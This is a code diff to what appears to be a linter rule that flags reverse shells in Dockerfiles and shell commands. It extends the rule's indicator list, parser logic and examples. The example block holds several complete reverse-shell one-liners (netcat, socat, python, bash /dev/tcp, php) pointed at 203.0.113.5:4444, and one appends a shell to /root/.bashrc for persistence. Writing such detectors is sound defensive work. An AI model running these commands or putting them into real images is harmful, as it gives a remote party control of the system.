@@ -40,7 +40,7 @@ SOCKETS = {
     "powershell": ("TCPClient",),
 }
 """By language: what a program that connects to another machine says."""
-GIVES_SHELL = ("/bin/sh", "/bin/bash", "pty.spawn", "'sh'", '"sh"', "'bash'", '"bash"', "iex ")
+GIVES_SHELL = ("/bin/sh", "/bin/bash", "sh <&", "sh -i", "pty.spawn", "'sh'", '"sh"', "'bash'", '"bash"', "iex ")
 
 
 @rule(
@@ -151,7 +151,7 @@ def _decodes_and_runs(command: Command) -> bool:
     "reverse-shell",
     severity=Severity.CRITICAL,
     references="ATT&CK T1059.004 · ATT&CK T1571 · ATT&CK T1095",
-    programs=RUNNERS | NETCATS | {"socat"},
+    programs=RUNNERS | NETCATS | {"socat", ""},
     examples=(
         Bad(
             "Dockerfile",
@@ -162,6 +162,9 @@ def _decodes_and_runs(command: Command) -> bool:
             RUN «nc» -e /bin/sh 203.0.113.5 4444 & mkfifo /tmp/f; cat /tmp/f | «sh» -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f
             RUN «socat» TCP:203.0.113.5:4444 EXEC:'bash -li',pty,stderr
             RUN «python3» -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);pty.spawn("sh")'
+            RUN exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read line; do «$line» 2>&5 >&5; done
+            RUN echo '«bash» -i >& /dev/tcp/203.0.113.5/4444 0>&1' >> /root/.bashrc
+            RUN «php» -r '$s=fsockopen("203.0.113.5",4444);exec("sh <&3 >&3 2>&3");'
             CMD ["sh", "-c", "ncat 203.0.113.5 4444 | «bash»"]
             """,
         ),
@@ -208,13 +211,18 @@ def reverse_shell(command: Command) -> Iterator[Finding]:
     treat what has run it as taken over.
     """
     if _hands_over(command):
-        yield command.finding(command.words[0].span, f"`{command.name}` hands a shell to another machine")
+        yield command.finding(command.words[0].span, f"`{command.words[0].text}` hands a shell to another machine")
 
 
 def _hands_over(command: Command) -> bool:
     name = command.name
     if name in SHELLS:
         return _connected(command)
+    if not name:  # `cat <&5 | while read line; do $line >&5; done`
+        runs_a_variable = bool(command.words) and command.words[0].text.startswith("$")
+        return runs_a_variable and any(
+            given == ">&" and word is not None and _opened(command, word.text) for given, word in command.redirects
+        )
     if name in NETCATS:
         executes = command.option("-e", "-c", "--exec", "--sh-exec") is not None
         return executes and any(_names_shell(word.text) for word in command.words[1:])
